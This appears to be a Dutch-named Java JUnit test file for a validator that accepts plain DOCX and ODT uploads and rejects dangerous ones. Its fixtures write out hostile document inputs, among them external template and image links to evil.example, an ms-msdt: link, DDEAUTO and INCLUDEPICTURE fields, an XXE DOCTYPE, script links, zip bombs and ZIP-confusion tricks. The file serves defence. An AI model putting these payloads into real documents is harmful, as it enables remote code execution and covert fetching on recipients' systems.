package nl.samenspraak.zaak.stukken;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class PakketTest {

    private static final String SOORT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final String VERWIJZINGEN = "word/_rels/settings.xml.rels";
    private static final int MB = 1024 * 1024;

    @Test
    void een_gewone_tekst_met_een_plaatje_en_een_link_mag() {
        Map<String, byte[]> delen = new LinkedHashMap<>();
        delen.put("[Content_Types].xml", Proefbestanden.tekst(Proefbestanden.inhoudsopgave("")));
        delen.put("word/document.xml", Proefbestanden.tekst(tekst(veld("HYPERLINK \"https://a.example/dde\""))));
        delen.put("word/media/image1.png", Proefbestanden.png());
        delen.put(
                "word/_rels/document.xml.rels",
                Proefbestanden.tekst("<Relationships>"
                        + verwijzing("image", "media/image1.png", "")
                        + verwijzing("hyperlink", "https://a.example", "TargetMode=\"External\"")
                        + "</Relationships>"));
        assertThat(Pakket.soort(Proefbestanden.zip(delen))).contains(Bestandsoort.DOCX);

        assertThat(Pakket.soort(Proefbestanden.odt(
                        "styles.xml",
                        "<s/>",
                        "Configurations2/toolbar/",
                        "",
                        "Configurations2/accelerator/current.xml",
                        "")))
                .contains(Bestandsoort.ODT);
        assertThat(Pakket.soort(odtMet("<o:scripts/><t:a l:href=\"https://a.example\">a</t:a>")))
                .contains(Bestandsoort.ODT);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "word/vbaProject.bin",
                "word/activeX/activeX1.xml",
                "word/embeddings/oleObject1.bin",
                "word/vbaData.xml",
                "word/media/plaatje.svg",
                "word/m.dat",
                "word/evil.exe",
                "word/afchunk.mht",
                "word/y.hta",
                "word/z.lnk",
                "word/q.scr",
                "word/w.msi",
                "word/../a.xml",
                "./word/a.xml",
                "word\\\\a.xml",
                "a.xml"
            })
    void wat_niet_bij_een_tekst_van_word_hoort_wordt_geweigerd(String deel) {
        assertThat(Pakket.soort(Proefbestanden.docx(deel, "<x/>"))).as(deel).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Basic/script-lb.xml",
                "./Basic/Standard/Module1.xml",
                "./Scripts/python/e.py",
                "Scripts/python/e.py",
                "Object 1/content.xml",
                "META-INF/macrosignatures.xml",
                "Pictures/a.svg",
                "a.hta"
            })
    void wat_niet_bij_een_tekst_van_opendocument_hoort_wordt_geweigerd(String deel) {
        assertThat(Pakket.soort(Proefbestanden.odt(deel, "<x/>"))).as(deel).isEmpty();
    }

    @Test
    void een_plaatje_dat_iets_anders_is_wordt_geweigerd() {
        assertThat(Pakket.soort(Proefbestanden.docx("word/media/image1.png", "MZ programma")))
                .isEmpty();
        assertThat(Pakket.soort(Proefbestanden.odt("Pictures/a.png", "<svg xmlns='http://www.w3.org/2000/svg'/>")))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "application/vnd.ms-office.vbaProject",
                "application/vnd.ms-office.activeX+xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
                "text/html"
            })
    void een_deel_met_een_inhoud_die_niet_mag_wordt_geweigerd_hoe_het_ook_heet(String inhoud) {
        Map<String, byte[]> delen = new LinkedHashMap<>();
        delen.put(
                "[Content_Types].xml",
                Proefbestanden.tekst(Proefbestanden.inhoudsopgave(
                        "<Override PartName=\"/word/styles.xml\" ContentType='" + inhoud + "'/>")));
        delen.put("word/styles.xml", Proefbestanden.tekst("<x/>"));
        assertThat(Pakket.soort(Proefbestanden.zip(delen))).isEmpty();
    }

    @ParameterizedTest
    @CsvSource({
        "attachedTemplate, http://evil.example/t.dotm, TargetMode=\"External\"",
        "attachedTemplate, http://evil.example/t.dotm, TargetMode='External'",
        "attachedTemplate, http://evil.example/hyperlink, TargetMode=\"External\"",
        "image, http://evil.example/a.png, TargetMode=\"External\"",
        "image, http://evil.example/a.png, TargetMode=\"external\"",
        "image, //evil.example/a.png, ''",
        "hyperlink, file://evil.example/a, TargetMode=\"External\"",
        "hyperlink, ms-msdt:/id, TargetMode=\"External\"",
        "x/hyperlink, http://evil.example, TargetMode=\"External\"",
        "aFChunk, document.xml, ''",
        "oleObject, document.xml, ''"
    })
    void wat_van_elders_komt_wordt_geweigerd_in_welke_tekens_het_ook_staat(String soort, String doel, String wijze) {
        String verwijzingen = "<Relationships>" + verwijzing(soort, doel, wijze) + "</Relationships>";
        assertThat(Pakket.soort(docx(VERWIJZINGEN, verwijzingen, StandardCharsets.UTF_8)))
                .isEmpty();
        assertThat(Pakket.soort(docx(VERWIJZINGEN, verwijzingen, StandardCharsets.UTF_16)))
                .isEmpty();
        assertThat(Pakket.soort(docx(
                        VERWIJZINGEN,
                        "<Relationships>" + verwijzing("styles", "styles.xml", "") + "</Relationships>",
                        StandardCharsets.UTF_16)))
                .as("de tekens zelf zijn de reden niet")
                .contains(Bestandsoort.DOCX);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<?xml version='1.0' encoding='ISO-8859-1'?><x/>",
                "<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>",
                "<!DOCTYPE x SYSTEM 'http://evil.example/x.dtd'><x/>",
                "DDEAUTO c:\\\\windows",
                "<x>"
            })
    void wat_geen_gewone_xml_is_wordt_geweigerd(String inhoud) {
        assertThat(Pakket.soort(Proefbestanden.docx("word/styles.xml", inhoud))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<w:altChunk/>",
                "<w:mailMerge/>",
                "<o:OLEObject/>",
                "<v:imagedata src='http://evil.example/a.png'/>",
                "<v:rect href='vbscript:x'/>",
                "<w:fldSimple w:instr=' DDEAUTO c:'/>",
                "<w:fldChar/><w:instrText> DDE</w:instrText><w:instrText>AUTO c:</w:instrText><w:fldChar/>",
                "<w:fldChar/><w:instrText>INCLUDEPICTURE \"http://evil.example\"</w:instrText><w:fldChar/>"
            })
    void een_veld_dat_iets_haalt_of_start_wordt_geweigerd(String inhoud) {
        assertThat(Pakket.soort(Proefbestanden.docx("word/header1.xml", tekst(inhoud))))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<s:event-listener l:href='vnd.sun.star.script:x.py'/>",
                "<t:section-source l:href='content.xml'/>",
                "<d:image l:href='http://evil.example/a.png'/>",
                "<d:image l:href='//evil.example/a.png'/>",
                "<d:image l:href='\\\\evil.example\\a.png'/>",
                "<t:a l:href='vnd.sun.star.script:x.py'>a</t:a>",
                "<t:a l:href='java&#9;script:x'>a</t:a>",
                "<t:script/>",
                "<d:object-ole/>"
            })
    void wat_in_opendocument_loopt_of_gehaald_wordt_wordt_geweigerd(String inhoud) {
        assertThat(Pakket.soort(odtMet(inhoud))).isEmpty();
    }

    @Test
    void wat_de_ene_lezer_ziet_en_de_andere_niet_wordt_geweigerd() {
        byte[] goed = Proefbestanden.docx();
        assertThat(Pakket.soort(metGat(goed))).as("een gat voor de lijst").isEmpty();
        assertThat(Pakket.soort(Proefbestanden.samen(goed, new byte[] {0})))
                .as("iets erachter")
                .isEmpty();
        assertThat(Pakket.soort(Proefbestanden.samen(goed, goed)))
                .as("twee achter elkaar")
                .isEmpty();
        assertThat(Pakket.soort(anders(goed, "word/document.xml", "word/documenX.xml")))
                .as("een andere naam in de kop dan in de lijst")
                .isEmpty();
        assertThat(Pakket.soort(Proefbestanden.docx("word/STYLES.xml", "<x/>", "word/styles.xml", "<x/>")))
                .as("twee delen met een naam")
                .isEmpty();
        assertThat(Pakket.soort(goed)).contains(Bestandsoort.DOCX);
    }

    @Test
    void een_deel_dat_de_lijst_niet_noemt_wordt_geweigerd() {
        byte[] erbij = Proefbestanden.docx("word/styles.xml", "<x/>");
        assertThat(Pakket.soort(erbij)).contains(Bestandsoort.DOCX);
        assertThat(Pakket.soort(zonderLaatsteRegel(erbij))).isEmpty();
    }

    @Test
    @Timeout(10)
    void een_klein_pakket_dat_heel_groot_uitpakt_of_veel_te_lezen_geeft_wordt_niet_gelezen() {
        byte[] bom = Proefbestanden.docx("word/styles.xml", "<x>" + "a".repeat(30 * MB) + "</x>");
        assertThat(bom.length).isLessThan(MB);
        assertThat(Pakket.soort(bom)).isEmpty();

        String[] haken = new String[300];
        for (int i = 0; i < haken.length; i += 2) {
            haken[i] = "word/_rels/a" + i + ".xml.rels";
            haken[i + 1] = "<".repeat(MB);
        }
        assertThat(Pakket.soort(Proefbestanden.docx(haken))).isEmpty();

        String[] delen = new String[6000];
        for (int i = 0; i < delen.length; i += 2) {
            delen[i] = "word/a" + i + ".xml";
            delen[i + 1] = "<x/>";
        }
        assertThat(Pakket.soort(Proefbestanden.docx(delen))).as("te veel delen").isEmpty();
        assertThat(Pakket.soort(Proefbestanden.docx("word/styles.xml", "<a>".repeat(600) + "</a>".repeat(600))))
                .as("te diep")
                .isEmpty();
    }

    private static String verwijzing(String soort, String doel, String wijze) {
        return "<Relationship Id=\"r\" Type=\"" + SOORT + soort + "\" Target=\"" + doel + "\" " + wijze + "/>";
    }

    private static String tekst(String inhoud) {
        return "<w:document xmlns:w=\"w\" xmlns:o=\"o\" xmlns:v=\"v\">" + inhoud + "</w:document>";
    }

    private static String veld(String woorden) {
        return "<w:fldChar/><w:instrText>" + woorden + "</w:instrText><w:fldChar/>";
    }

    private static byte[] odtMet(String inhoud) {
        Map<String, byte[]> delen = new LinkedHashMap<>();
        delen.put("mimetype", Proefbestanden.tekst("application/vnd.oasis.opendocument.text"));
        delen.put(
                "content.xml",
                Proefbestanden.tekst("<o:document-content xmlns:o='o' xmlns:t='t' xmlns:l='l' xmlns:d='d' xmlns:s='s'>"
                        + inhoud + "</o:document-content>"));
        return Proefbestanden.zip(delen);
    }

    private static byte[] docx(String deel, String inhoud, Charset tekens) {
        Map<String, byte[]> delen = new LinkedHashMap<>();
        delen.put("[Content_Types].xml", Proefbestanden.tekst(Proefbestanden.inhoudsopgave("")));
        delen.put("word/document.xml", Proefbestanden.tekst(tekst("")));
        delen.put(deel, inhoud.getBytes(tekens));
        return Proefbestanden.zip(delen);
    }

    /** Bytes between the parts and the list: a reader from head to head stops there, and one of the list goes on. */
    private static byte[] metGat(byte[] zip) {
        byte[] gat = {'J', 'U', 'N', 'K'};
        int lijst = lijst(zip);
        byte[] uit = Proefbestanden.samen(Arrays.copyOf(zip, lijst), gat, Arrays.copyOfRange(zip, lijst, zip.length));
        zet(uit, uit.length - 6, lijst + gat.length);
        return uit;
    }

    private static byte[] zonderLaatsteRegel(byte[] zip) {
        int einde = zip.length - 22;
        int regel = lijst(zip);
        for (int volgende = regel; volgende < einde; volgende += 46 + zip[volgende + 28] + zip[volgende + 30]) {
            regel = volgende;
        }
        byte[] uit = Proefbestanden.samen(Arrays.copyOf(zip, regel), Arrays.copyOfRange(zip, einde, zip.length));
        uit[regel + 8]--;
        uit[regel + 10]--;
        zet(uit, regel + 12, regel - lijst(zip));
        return uit;
    }

    private static int lijst(byte[] zip) {
        int plaats = zip.length - 6;
        return zip[plaats] & 0xff | (zip[plaats + 1] & 0xff) << 8 | (zip[plaats + 2] & 0xff) << 16;
    }

    private static void zet(byte[] bytes, int plaats, int getal) {
        for (int i = 0; i < 4; i++) {
            bytes[plaats + i] = (byte) (getal >>> 8 * i);
        }
    }

    /** The first time that it stands there. */
    private static byte[] anders(byte[] zip, String oud, String nieuw) {
        String tekst = new String(zip, StandardCharsets.ISO_8859_1);
        return tekst.replaceFirst(Pattern.quote(oud), nieuw).getBytes(StandardCharsets.ISO_8859_1);
    }
}
